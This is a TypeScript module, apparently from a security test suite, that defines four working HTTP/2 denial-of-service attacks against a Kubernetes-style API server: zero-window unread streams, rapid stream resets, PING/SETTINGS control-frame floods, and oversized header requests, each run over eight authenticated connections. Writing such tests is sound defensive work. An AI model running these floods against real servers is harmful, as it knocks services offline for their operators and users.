import { once } from 'node:events';
import { type ClientHttp2Session, type ClientHttp2Stream, connect, constants } from 'node:http2';
import { setTimeout as wait } from 'node:timers/promises';
import type { Attack, AttackContext } from '../attack.ts';

const CONNECTIONS = 8;
const LASTING_MS = 4_000;

/** Streams whose flow-control window is never opened: responses and watches wait on every connection. */
export const unreadStreams: Attack = {
  name: 'HTTP/2 unread streams',
  async run(context) {
    await onSessions(context, { settings: { initialWindowSize: 0 } }, async (session) => {
      const paths = ['/openapi/v2', '/apis', '/api/v1/namespaces/tenant/configmaps?watch=1', '/api/v1/namespaces'];
      for (let i = 0; i < 200; i++) ignoreErrors(ask(session, context, paths[i % paths.length]!));
      await wait(LASTING_MS);
    });
  },
};

/** Requests that are cancelled as soon as they are sent. */
export const rapidResets: Attack = {
  name: 'HTTP/2 rapid resets',
  async run(context) {
    await onSessions(context, {}, async (session) => {
      for (let i = 0; i < 5_000 && !session.destroyed && !session.closed; i++) {
        const stream = ignoreErrors(ask(session, context, '/api/v1/namespaces/tenant/pods'));
        stream.close(constants.NGHTTP2_CANCEL);
        if (i % 100 === 99) await wait(1);
      }
    });
  },
};

/** Control frames that the server must acknowledge, from a client that does not read the acknowledgements. */
export const controlFrames: Attack = {
  name: 'HTTP/2 control frames',
  async run(context) {
    await onSessions(context, {}, async (session) => {
      for (let i = 0; i < 20_000 && !session.destroyed && !session.closed; i++) {
        if (i % 2 === 0) session.ping(Buffer.alloc(8), () => undefined);
        else session.settings({ initialWindowSize: 1_000 + (i % 1_000) }, () => undefined);
        if (i % 500 === 499) await wait(1);
      }
    });
  },
};

/** Requests with as many and as large headers as fit. */
export const largeHeaders: Attack = {
  name: 'HTTP/2 large headers',
  async run(context) {
    const many = Object.fromEntries(Array.from({ length: 700 }, (_, i) => [`x-header-${i}`, 'x'.repeat(30)]));
    await onSessions(context, {}, async (session) => {
      for (let i = 0; i < 300 && !session.destroyed && !session.closed; i++) {
        ignoreErrors(ask(session, context, `/api/v1/namespaces/tenant/pods?x=${'y'.repeat(i * 10)}`, many)).resume();
        if (i % 20 === 19) await wait(5);
      }
      await wait(500);
    });
  },
};

async function onSessions(
  { target }: AttackContext,
  options: { settings?: { initialWindowSize: number } },
  run: (session: ClientHttp2Session) => Promise<void>,
): Promise<void> {
  const ca = await target.ca();
  const one = async () => {
    const session = connect(target.origin, { ca, ...options });
    session.on('error', () => undefined);
    try {
      await once(session, 'connect');
      await run(session);
    } catch {
      // The server has closed the connection, as it should.
    } finally {
      session.destroy();
    }
  };
  await Promise.all(Array.from({ length: CONNECTIONS }, one));
}

function ask(session: ClientHttp2Session, { target }: AttackContext, path: string, more = {}): ClientHttp2Stream {
  return session.request({ ':path': path, authorization: `Bearer ${target.tokens.tenant}`, ...more });
}

function ignoreErrors(stream: ClientHttp2Stream): ClientHttp2Stream {
  return stream.on('error', () => undefined);
}
